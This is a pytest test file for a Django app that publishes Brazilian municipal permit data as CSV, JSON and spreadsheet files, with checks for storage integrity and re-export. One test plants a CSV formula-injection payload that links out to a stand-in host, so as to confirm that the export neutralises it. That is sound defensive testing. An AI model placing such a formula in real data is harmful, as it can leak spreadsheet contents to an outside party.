"""The daily open-data files: permits in force per municipality, CSV and JSON, stored through the storage API
(local disk or S3), and their download checked against the SHA-256 kept when they were written."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.test import Client, TestCase

from apps.licensing import services
from apps.licensing.models import Permit
from apps.public.opendata import FIELDS

pytestmark = pytest.mark.django_db


def export(*args: str) -> str:
    """Run the export and its after-commit writes (the test's transaction never commits by itself)."""
    out = io.StringIO()
    with TestCase.captureOnCommitCallbacks(execute=True):
        call_command("export_open_data", *args, stdout=out)
    return out.getvalue()


def test_the_export_lists_permits_in_force_with_the_published_fields(
    client: Client, olimpia_permit: Permit, patrocinio_permit: Permit, today: dt.date
) -> None:
    services.permit_suspend(
        permit=olimpia_permit,
        actor=None,
        as_of=today,
        until=today + dt.timedelta(days=5),
        reason="Decisão definitiva.",
    )
    export("--as-of", today.isoformat())
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/dados-abertos/3533908/alvaras-em-vigor.csv").getvalue().decode())
        )
    )
    assert [row["permit_number"] for row in rows] == [olimpia_permit.number]
    assert tuple(rows[0]) == FIELDS
    assert rows[0]["status"] == "suspended" and rows[0]["holder_name"] == "Maria Aparecida Souza"
    document = json.loads(client.get("/dados-abertos/3148103/alvaras-em-vigor.json").getvalue())
    assert document["as_of"] == today.isoformat() and document["count"] == 1
    assert document["permits"][0]["plate"] == patrocinio_permit.vehicle.plate


def test_revoked_and_expired_permits_leave_the_list(
    client: Client, olimpia_permit: Permit, today: dt.date
) -> None:
    assert olimpia_permit.valid_until is not None
    day_after = olimpia_permit.valid_until + dt.timedelta(days=1)
    export("--as-of", day_after.isoformat())
    assert json.loads(client.get("/dados-abertos/3533908/alvaras-em-vigor.json").getvalue())["count"] == 0
    services.permit_revoke(permit=olimpia_permit, actor=None, as_of=today, reason="Cassação.")
    export()
    assert json.loads(client.get("/dados-abertos/3533908/alvaras-em-vigor.json").getvalue())["count"] == 0


def test_the_page_lists_each_town_and_says_when_nothing_was_published(
    client: Client, olimpia_permit: Permit, votuporanga: Any, today: dt.date
) -> None:
    export("--municipio", "3533908")
    page = client.get("/dados-abertos/").content.decode()
    assert "/dados-abertos/3533908/alvaras-em-vigor.csv" in page
    assert "ainda não publicado" in page
    assert client.get("/dados-abertos/3557105/alvaras-em-vigor.csv").status_code == 404
    assert client.get("/dados-abertos/3533908/alvaras-em-vigor.xml").status_code == 404


def test_the_command_refuses_bad_arguments(olimpia: Any) -> None:
    with pytest.raises(CommandError, match="data inválida"):
        call_command("export_open_data", "--as-of", "30/11/2026")
    with pytest.raises(CommandError, match="não encontrado"):
        call_command("export_open_data", "--municipio", "0000000")


def test_a_formula_in_a_holders_name_is_neutralized_in_the_csv(
    client: Client, olimpia_permit: Permit, today: dt.date
) -> None:
    from apps.registry.models import Person

    formula = '=HYPERLINK("http://exemplo.invalid/?x="&A1,"Clique")'
    Person.objects.filter(operators=olimpia_permit.operator).update(name=formula)
    export("--as-of", today.isoformat())
    text = client.get("/dados-abertos/3533908/alvaras-em-vigor.csv").getvalue().decode()
    assert list(csv.DictReader(io.StringIO(text)))[0]["holder_name"] == "'" + formula
    document = json.loads(client.get("/dados-abertos/3533908/alvaras-em-vigor.json").getvalue())
    assert (
        document["permits"][0]["holder_name"] == formula
    )  # JSON is data, not a spreadsheet: kept as written


@pytest.fixture(params=["local", "s3"])
def store(request: pytest.FixtureRequest) -> Any:
    from django.core.files.storage import default_storage

    return request.getfixturevalue("s3_storage") if request.param == "s3" else default_storage


def downloaded(client: Client, url: str) -> bytes:
    """The bytes a browser gets: streamed from the disk, or fetched from the signed S3 URL it is sent to."""
    import urllib.request

    response = client.get(url)
    if response.status_code == 302:
        assert response["Cache-Control"] == "no-store"
        with urllib.request.urlopen(response["Location"], timeout=10) as signed:  # noqa: S310 (moto on localhost)
            return bytes(signed.read())
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


def test_the_files_go_through_the_store_and_are_checked_before_download(
    client: Client, olimpia_permit: Permit, store: Any, today: dt.date
) -> None:
    import hashlib

    from django.core.files.base import ContentFile

    from apps.ops.models import PublishedFile

    printed = export("--as-of", today.isoformat(), "--municipio", "3533908")
    latest = PublishedFile.objects.get(key="alvaras-em-vigor.json")
    assert latest.file.name.startswith("published/3533908/alvaras-em-vigor-") and latest.file.name in printed
    with store.open(latest.file.name, "rb") as handle:
        stored = handle.read()
    assert hashlib.sha256(stored).hexdigest() == latest.sha256
    body = downloaded(client, "/dados-abertos/3533908/alvaras-em-vigor.json")
    assert body == stored and json.loads(body)["count"] == 1

    export("--as-of", today.isoformat(), "--municipio", "3533908")  # a second version the same day
    newest = PublishedFile.objects.filter(key="alvaras-em-vigor.json").latest("pk")
    assert newest.file.name != latest.file.name and store.exists(latest.file.name)  # history kept

    store.delete(newest.file.name)
    store.save(newest.file.name, ContentFile(b'{"count": 0, "permits": []}'))  # replaced behind our back
    refused = client.get("/dados-abertos/3533908/alvaras-em-vigor.json")
    assert refused.status_code == 409 and "não confere" in refused.content.decode()


def test_an_export_rolled_back_leaves_no_file(olimpia_permit: Permit, store: Any, today: dt.date) -> None:
    from django.db import transaction

    from apps.ops.models import PublishedFile
    from apps.public.opendata import export_municipality

    with TestCase.captureOnCommitCallbacks(execute=True), pytest.raises(RuntimeError), transaction.atomic():
        export_municipality(olimpia_permit.municipality, today)
        raise RuntimeError("rollback")
    assert not PublishedFile.objects.exists()
    try:
        folders = store.listdir("")[0]
    except FileNotFoundError:  # the local MEDIA_ROOT before the first file
        folders = []
    assert "published" not in folders


# --- refreshed at each change of standing, stated to the minute, and a spreadsheet for people (issue 26) -------


def _run_queued_exports() -> list[Any]:
    """What `manage.py db_worker` would run once the debounce window closes."""
    from django_tasks_db.models import DBTaskResult

    from apps.public.tasks import export_open_data_task

    queued = list(DBTaskResult.objects.filter(task_path__endswith="export_open_data_task").order_by("pk"))
    for row in queued:
        with TestCase.captureOnCommitCallbacks(execute=True):
            export_open_data_task.call(*row.args_kwargs["args"])
    return queued


def test_a_suspension_reaches_the_open_data_without_waiting_for_the_night(
    client: Client, olimpia_permit: Permit, today: dt.date
) -> None:
    export("--as-of", today.isoformat())
    until = today + dt.timedelta(days=5)
    with TestCase.captureOnCommitCallbacks(execute=True):
        services.permit_suspend(permit=olimpia_permit, actor=None, as_of=today, until=until, reason="Auto 7")
    assert len(_run_queued_exports()) == 1
    document = json.loads(client.get("/dados-abertos/3533908/alvaras-em-vigor.json").getvalue())
    assert document["permits"][0]["status"] == "suspended"
    assert document["permits"][0]["suspended_until"] == until.isoformat()
    assert document["generated_at"].startswith(today.isoformat()) and document["generated_at"].endswith(
        "-03:00"
    )


def test_changes_in_one_window_cost_one_export(olimpia_permit: Permit, today: dt.date) -> None:
    until = today + dt.timedelta(days=5)
    with TestCase.captureOnCommitCallbacks(execute=True):
        services.permit_suspend(permit=olimpia_permit, actor=None, as_of=today, until=until, reason="Auto 7")
    with TestCase.captureOnCommitCallbacks(execute=True):
        services.permit_reactivate(permit=olimpia_permit, actor=None, as_of=today, reason="Auto cancelado")
    assert len(_run_queued_exports()) == 1


def test_the_page_states_the_instant_and_offers_a_portuguese_spreadsheet(
    client: Client, olimpia_permit: Permit, today: dt.date
) -> None:
    from django.utils import timezone

    services.permit_suspend(
        permit=olimpia_permit, actor=None, as_of=today, until=today + dt.timedelta(days=5), reason="Auto 7"
    )
    export("--as-of", today.isoformat())
    page = client.get("/dados-abertos/").content.decode()
    assert f"{timezone.localdate():%d/%m/%Y} às " in page
    assert "/dados-abertos/3533908/alvaras-em-vigor-planilha.csv" in page
    response = client.get("/dados-abertos/3533908/alvaras-em-vigor-planilha.csv")
    text = response.getvalue().decode()
    assert text.startswith("\ufeffRegime (lei municipal);Número;Tipo;Placa;")
    [row] = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert row["Situação"] == "Suspenso" and row["Suspenso até"] == f"{today + dt.timedelta(days=5):%d/%m/%Y}"
    assert row["Válido desde"].count("/") == 2 and "_" not in row["Regime (lei municipal)"]
